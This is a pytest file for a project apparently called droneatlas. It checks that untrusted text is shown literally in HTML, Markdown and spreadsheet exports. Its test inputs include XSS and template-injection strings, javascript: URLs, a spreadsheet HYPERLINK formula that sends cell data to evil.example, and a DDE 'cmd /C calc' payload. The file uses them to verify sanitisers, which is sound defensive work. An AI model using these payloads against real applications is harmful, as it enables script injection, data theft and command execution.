"""Untrusted text is shown literally: no HTML, no Jinja, no JS template escapes, safe links."""

from __future__ import annotations

import html
import re

import pytest

from droneatlas.text import (
    is_safe_url,
    link,
    literal,
    markdown_literal,
    spreadsheet_safe,
    spreadsheet_safe_cells,
    spreadsheet_value,
)
from tests.hostile import HOSTILE, runs_as_formula

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% if 1 %}x{% endif %}",
    "`${alert(1)}`",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_literal_leaves_no_active_character(payload: str) -> None:
    out = literal(payload)
    for char in "<>\"'`${}\\":
        assert char not in out
    assert html.unescape(out) == payload  # and the reader sees exactly the original


def test_literal_of_missing_values() -> None:
    assert literal(None) == "" and literal(float("nan")) == ""
    assert literal(5) == "5"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/a?b=c", True),
        ("http://example.org", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>", False),
        ("//example.org", False),
        ("https://", False),
        ("https://exa mple.org", False),
        ("https://example.org/\nx", False),
        (None, False),
    ],
)
def test_is_safe_url(url: object, safe: bool) -> None:
    assert is_safe_url(url) is safe


def test_link_is_escaped_and_unsafe_links_become_text() -> None:
    out = link('https://example.org/?q="x"', "<b>Title</b>")
    assert out.startswith('<a href="https://example.org/?q=&quot;x&quot;"')
    assert "&lt;b&gt;Title&lt;/b&gt;" in out and 'rel="noopener noreferrer"' in out
    assert link("javascript:alert(1)", "Click") == "Click"


def test_missing_values_of_every_kind() -> None:
    import pandas as pd

    assert literal(pd.NA) == "" and literal(pd.NaT) == "" and literal(0) == "0"


def test_markdown_literal_neutralises_links_images_and_formatting() -> None:
    out = markdown_literal("![x](https://evil.example/p.png) **b** :red[c] `code`")
    for escaped in ("\\!\\[x\\]\\(", "\\*\\*b\\*\\*", "\\:red\\[c\\]", "\\`code\\`"):
        assert escaped in out
    assert out.replace("\\", "") == "![x](https://evil.example/p.png) **b** :red[c] `code`"


def test_spreadsheet_safe_cells() -> None:
    assert spreadsheet_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert spreadsheet_safe("@SUM(1)") == "'@SUM(1)"
    assert spreadsheet_safe("Kyiv") == "Kyiv" and spreadsheet_safe(5) == 5


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =1+1",
        "\u00a0\u2003+1+1",
        "\t",
        "\rplain after a CR",
        "\x00=1",
        "\uff1d1+1",
    ],
)
def test_spreadsheet_safe_neutralises_formulas_owasp_style(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe == "'" + cell  # neutralised by a leading quote, the value still readable after it


@pytest.mark.parametrize(
    "cell", ["-1.5", "+2", "49.5", "1e-3", "Kyiv", "a=b", " Kyiv", "", "'Massive' strikes", "'-1.5"]
)
def test_spreadsheet_safe_leaves_numbers_and_plain_text(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) is None


@pytest.mark.parametrize("text", [*HOSTILE, "'", "''", "'Massive' strikes", "-1.5", "'-1.5", "-"])
def test_spreadsheet_value_is_the_exact_inverse(text: str) -> None:
    """Written safe, read back as given: a quote of the text's own is kept ("'=1" -> "''=1")."""
    cell = spreadsheet_safe(text)
    assert not runs_as_formula(cell)
    assert spreadsheet_value(cell) == text
    assert spreadsheet_safe_cells([text, "x", ""]) == [cell, "x", ""]


def test_a_quote_of_the_text_own_is_quoted_again() -> None:
    assert spreadsheet_safe("'=1") == "''=1" and spreadsheet_value("''=1") == "'=1"
    assert spreadsheet_value("'=1+1") == "=1+1"  # how a spreadsheet itself reads it


@pytest.mark.parametrize("text", HOSTILE)
def test_the_corpus_is_literal_in_html_and_markdown(text: str) -> None:
    out = literal(text)
    assert not any(char in out for char in "<>\"'`${}\\")
    assert html.unescape(out) == text
    marked = markdown_literal(text)
    assert re.sub(r"\\(.)", r"\1", marked, flags=re.DOTALL) == text  # every escape undone: the text
    assert re.search(r"(?<!\\)(?:\\\\)*[*_`\[\]()#!|<>~$:{}&=]", marked) is None  # no live special
